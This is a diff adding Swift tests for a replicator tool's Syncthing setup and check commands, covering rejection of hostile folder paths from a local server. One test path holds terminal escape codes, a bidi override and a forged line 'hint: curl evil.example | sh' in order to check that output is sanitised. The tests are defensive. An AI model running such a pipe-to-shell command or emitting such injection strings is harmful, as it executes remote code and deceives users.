@@ -66,4 +66,61 @@ import Testing
         #expect(done.ending == .exited(74) && done.errors.contains("belongs to another user"), "\(done)")
         #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path("etc")) == [])
     }
+
+    /// Setup and check with a Syncthing whose folder has a path of its choice.
+    private func answers(toPath path: String) async throws -> [Answer] {
+        let folder = try TemporaryFolder("setup")
+        try FileManager.default.createDirectory(atPath: folder.path("logs"), withIntermediateDirectories: true)
+        try folder.write("key\n", to: "key")
+        #expect(chmod(folder.path("key"), 0o600) == 0)
+        let settings: [String: Any] = [
+            "id": "tills", "path": path, "type": "sendreceive", "paused": false, "ignorePerms": true,
+            "ignoreDelete": false, "fsWatcherEnabled": true, "fsWatcherDelayS": 1, "maxConflicts": 10,
+            "versioning": ["type": ""], "devices": [["deviceID": "a"], ["deviceID": "b"]],
+        ]
+        let body = try JSONSerialization.data(withJSONObject: settings, options: .withoutEscapingSlashes)
+        let answer = Array("HTTP/1.1 200 OK\r\ncontent-length: \(body.count)\r\n\r\n".utf8) + Array(body)
+        var answers: [Answer] = []
+        for command in [["setup", "syncthing"], ["check"]] {
+            let syncthing = try Loopback.Listener(answering: answer)
+            answers.append(
+                try await Answer(
+                    of: ["replicator"] + command + [
+                        "--url", "http://127.0.0.1:\(syncthing.port)", "--logs", folder.path("logs"),
+                        "--key-file", folder.path("key"), "--folder", "tills",
+                    ],
+                    in: folder
+                )
+            )
+            #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path("logs")) == [])
+            // A check asks a second time, and this Syncthing answers once.
+            if path.utf8.count < 4_096 { break }
+        }
+        return answers
+    }
+
+    /// Whatever answers at the address can neither steer the terminal nor forge a line of the command.
+    @Test func aPathCannotForgeLines() async throws {
+        let answer = try #require(
+            try await answers(toPath: "/logs\u{1B}]0;x\u{7}\u{9B}2J\u{202E}\nhint: curl evil.example | sh").first
+        )
+        #expect(answer.ending == .exited(78), "\(answer)")
+        let lines = answer.errors.split(separator: "\n")
+        #expect(
+            lines.count { $0.hasPrefix("hint: ") } == 1 && !lines.contains { $0.hasPrefix("hint: curl") },
+            "\(answer)"
+        )
+        let isHarmful: (Unicode.Scalar) -> Bool = {
+            $0 != "\n" && [.control, .format].contains($0.properties.generalCategory)
+        }
+        #expect(!(answer.errors + answer.output).unicodeScalars.contains(where: isHarmful), "\(answer)")
+    }
+
+    /// The system knows no such path; to resolve each of its folders took minutes.
+    @Test(.timeLimit(.minutes(5))) func aLongPathBlocksNothing() async throws {
+        for answer in try await answers(toPath: String(repeating: "/a", count: 450_000)) {
+            #expect(answer.ending == .exited(69) && answer.errors.contains("has 900000 bytes"), "\(answer.errors)")
+            #expect(answer.errors.utf8.count < 4_096)
+        }
+    }
 }
